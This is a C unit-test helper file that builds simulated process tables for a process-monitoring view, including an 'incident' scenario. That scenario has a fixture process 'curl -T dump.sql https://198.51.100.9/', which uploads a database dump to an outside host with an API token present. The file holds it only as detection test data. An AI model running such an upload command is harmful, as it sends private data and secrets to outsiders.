#include "tests/unit/view_world.h"

#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/clock.h"
#include "base/file.h"
#include "tests/unit/tables.h"

#define HZ 100
#define BOOT_S 90714  /* the host's age */
#define CLOCK_S 51067 /* 14:11:07 */

void world_start(struct world *w, int rows, int cols)
{
	struct view_options o = {.source = "/proc"};
	struct err err = {0};

	memset(w, 0, sizeof(*w));
	tracker_init(&w->tracker);
	view_init(&w->view, &o, &w->tracker);
	view_runs_loaded(&w->view, &(struct runlist){0}); /* none is recorded */
	assert_int_equal(grid_resize(&w->grid, rows, cols, &err), 0);
	view_draw(&w->view, &w->grid);
}

void world_end(struct world *w)
{
	view_free(&w->view);
	tracker_free(&w->tracker);
	grid_free(&w->grid);
	free(w->text);
}

/* The start in ticks of what began at h:m:s of the same day. */
static uint64_t at(unsigned h, unsigned m, unsigned s)
{
	return ((uint64_t)BOOT_S - CLOCK_S + h * 3600 + m * 60 + s) * HZ;
}

static void set_args(struct process *p, const char *args)
{
	struct bytes *b = &p->detail->cmdline;

	tables_set(b, args);
	for (size_t i = 0; i < b->len; i++)
		if (b->data[i] == ' ')
			b->data[i] = '\0';
	b->len++; /* the last one ends with a NUL too */
	p->detail->cmdline_total = b->len;
}

struct process *world_add(struct table *t, pid_t pid, pid_t ppid, pid_t pgid, pid_t sid,
			  const char *args, const char *exe)
{
	struct process *p = tables_add(t, pid, at(14, 0, 0) + (uint64_t)(pid % 60) * HZ, ppid);
	const char *name = strrchr(exe, '/') + 1;

	p->pgid = pgid;
	p->reach_known = true;
	p->sid = sid;
	tables_set(&p->detail->exe, exe);
	tables_set(&p->detail->comm, name);
	set_args(p, args);
	return p;
}

static struct process *service(struct table *t, pid_t pid, const char *args, const char *exe,
			       const char *unit)
{
	struct process *p = world_add(t, pid, 1, pid, pid, args, exe);
	char cgroup[128];

	snprintf(cgroup, sizeof(cgroup), "/system.slice/%s", unit);
	tables_set(&p->detail->cgroup, cgroup);
	p->id.start = at(1, 0, 0);
	p->owner = p->detail->uid = p->detail->euid = 0;
	tables_set(&p->detail->user, "root");
	p->detail->audit_session = p->detail->login_uid = -1;
	return p;
}

static void kernel_thread(struct table *t, pid_t pid, const char *name)
{
	struct process *p = service(t, pid, "x", "/x", "x");

	p->ppid = pid == 2 ? 0 : 2;
	p->pgid = p->sid = 0;
	p->pf = PROCESS_PF_KTHREAD;
	tables_set(&p->detail->comm, name);
	tables_set(&p->detail->cmdline, "");
	tables_set(&p->detail->exe, NULL);
	tables_set(&p->detail->cgroup, "/");
}

static void add_login(struct table *t, const char *id, pid_t leader, const char *state)
{
	struct login l = {.leader = leader, .uid = 1000, .audit = atoi(id)};

	snprintf(l.id, sizeof(l.id), "%s", id);
	snprintf(l.scope, sizeof(l.scope), "session-%s.scope", id);
	snprintf(l.state, sizeof(l.state), "%s", state);
	snprintf(l.service, sizeof(l.service), "sshd");
	assert_true(VEC_PUSH(&t->host.logins, l));
}

struct table *world_calm(void)
{
	struct table *t = tables_new();
	struct process *p;

	t->host.wall_ns = 1784902267000250000ULL;
	t->host.boot_ns = BOOT_S * CLOCK_NS_PER_S + 250000;
	t->host.logins_known = true;
	t->coverage.first_scan_wall_ns = t->host.wall_ns - 5 * CLOCK_NS_PER_S;
	add_login(t, "13", 2500, "active");
	p = service(t, 1, "/sbin/init", "/usr/lib/systemd/systemd", "x");
	tables_set(&p->detail->cgroup, "/init.scope");
	p->ppid = 0;
	kernel_thread(t, 2, "kthreadd");
	kernel_thread(t, 3, "kworker/0:1");
	service(t, 400, "/usr/sbin/cron -f", "/usr/sbin/cron", "cron.service");
	service(t, 500, "sshd: /usr/sbin/sshd -D", "/usr/sbin/sshd", "ssh.service");
	service(t, 600, "nginx: master process", "/usr/sbin/nginx", "nginx.service");
	p = world_add(t, 2500, 500, 2500, 2500, "sshd: op [priv]", "/usr/sbin/sshd");
	tables_set(&p->detail->cgroup, "/user.slice/user-1000.slice/session-13.scope");
	p->detail->audit_session = 13;
	p = world_add(t, 2517, 2500, 2517, 2517, "-bash", "/usr/bin/bash");
	tables_set(&p->detail->cgroup, "/user.slice/user-1000.slice/session-13.scope");
	p->detail->audit_session = 13;
	p->tty_nr = 34816 + 2;
	p = world_add(t, 2600, 2517, 2600, 2517, "stray", "/usr/bin/stray");
	tables_set(&p->detail->cgroup, "/user.slice/user-1000.slice/session-13.scope");
	p->detail->audit_session = 13;
	p->tty_nr = 34816 + 2;
	t->host.self = p->id;
	t->host.uid = 1000;
	return t;
}

struct table *world_incident(void)
{
	struct table *t = world_calm();
	struct process *p;

	p = world_add(t, 4131, 1, 4102, 4102, "sh -c ./deploy.sh --env prod", "/usr/bin/dash");
	p->id.start = at(14, 0, 2);
	p->tty_nr = 34816 + 3;
	p->tty_closed = true;
	p->detail->sig_ignored = 1ULL << (SIGTERM - 1);
	p = world_add(t, 4150, 4131, 4150, 4102, "python3 worker.py", "/usr/bin/python3");
	p->id.start = at(14, 1, 10);
	p->tty_nr = 34816 + 3;
	p->tty_closed = true;
	p->state = 'R';
	p->cpu_permille = 998;
	p->detail->marks = calloc(1, sizeof(*p->detail->marks));
	assert_non_null(p->detail->marks);
	p->detail->marks[0] = (struct mark){strdup("AI_AGENT"), strdup("1")};
	p->detail->n_marks = 1;
	p = world_add(t, 4160, 1, 4160, 4160, "sh upload.sh", "/usr/bin/dash");
	p->id.start = at(14, 2, 40);
	p = world_add(t, 4171, 4160, 4160, 4160, "curl -T dump.sql https://198.51.100.9/",
		      "/usr/bin/curl");
	p->id.start = at(14, 11, 3);
	p->connections = 1;
	tables_set(&p->remote, "198.51.100.9:443");
	p->detail->cwd_deleted = true;
	p->detail->secret_names = calloc(1, sizeof(*p->detail->secret_names));
	assert_non_null(p->detail->secret_names);
	p->detail->secret_names[0] = strdup("API_TOKEN");
	p->detail->n_secret_names = 1;
	return t;
}

struct table *world_without(struct table *t, pid_t pid)
{
	for (size_t i = 0; i < t->procs.n; i++) {
		if (t->procs.v[i].id.pid != pid)
			continue;
		process_clear(&t->procs.v[i]);
		memmove(&t->procs.v[i], &t->procs.v[i + 1],
			(t->procs.n - i - 1) * sizeof(t->procs.v[0]));
		t->procs.n--;
	}
	return t;
}

void world_age(struct table *t, unsigned s)
{
	t->host.wall_ns += s * CLOCK_NS_PER_S;
	t->host.boot_ns += s * CLOCK_NS_PER_S;
}

void world_scan(struct world *w, struct table *scan)
{
	struct err err = {0};

	/* a scan knows no connections: they are carried over from the first */
	for (size_t i = 0; w->tracker.now && i < scan->procs.n; i++)
		if (table_find(w->tracker.now, scan->procs.v[i].id))
			bytes_free(&scan->procs.v[i].remote);
	table_sort(scan);
	assert_int_equal(tracker_fold(&w->tracker, scan, &err), 0);
	assert_int_equal(view_scanned(&w->view, &err), 0);
	view_draw(&w->view, &w->grid);
}

void world_keys(struct world *w, const char *script)
{
	struct input_script s = {.at = script};
	struct err err = {0};
	struct input in;
	int r;

	while ((r = input_script_next(&s, &in, &err)) == 1) {
		enum request request;

		if (in.kind == INPUT_RESIZE)
			assert_int_equal(grid_resize(&w->grid, in.y, in.x, &err), 0);
		request = view_update(&w->view, &in);
		w->asked[request]++;
		if (request != REQUEST_NONE)
			w->last = request;
		view_draw(&w->view, &w->grid);
		if (request == REQUEST_FLUSH)
			view_dialog_drawn(&w->view, NULL);
	}
	if (r < 0)
		fail_msg("%s", err.text);
}

const char *world_screen(struct world *w)
{
	view_draw(&w->view, &w->grid);
	free(w->text);
	w->text = grid_to_text(&w->grid);
	assert_non_null(w->text);
	return w->text;
}

void world_shows(struct world *w, const char *text)
{
	if (!strstr(world_screen(w), text))
		fail_msg("the screen does not show '%s':\n%s", text, w->text);
}

void world_hides(struct world *w, const char *text)
{
	if (strstr(world_screen(w), text))
		fail_msg("the screen shows '%s':\n%s", text, w->text);
}

void world_line(struct world *w, const char *text, char *out, size_t size)
{
	const char *screen = world_screen(w), *found = strstr(screen, text), *begin = found;

	if (!found)
		fail_msg("the screen does not show '%s':\n%s", text, screen);
	while (begin > screen && begin[-1] != '\n')
		begin--;
	snprintf(out, size, "%.*s", (int)strcspn(begin, "\n"), begin);
}

void world_golden(struct world *w, const char *name)
{
	const char *source = getenv("abs_top_srcdir");
	const char *got = world_screen(w);
	char path[512], *expected = NULL;

	snprintf(path, sizeof(path), "%s/tests/unit/screens/%s.txt", source ? source : ".", name);
	if (getenv("STRAY_REGENERATE")) {
		FILE *f = fopen(path, "w");

		assert_non_null(f);
		fputs(got, f);
		assert_int_equal(fclose(f), 0);
		return;
	}
	if (file_read_all_at(AT_FDCWD, path, 1 << 20, &expected) < 0)
		fail_msg("%s cannot be read: STRAY_REGENERATE=1 writes it", path);
	if (strcmp(expected, got) != 0)
		fail_msg("%s differs.  Expected:\n%s\ngot:\n%s", name, expected, got);
	free(expected);
}
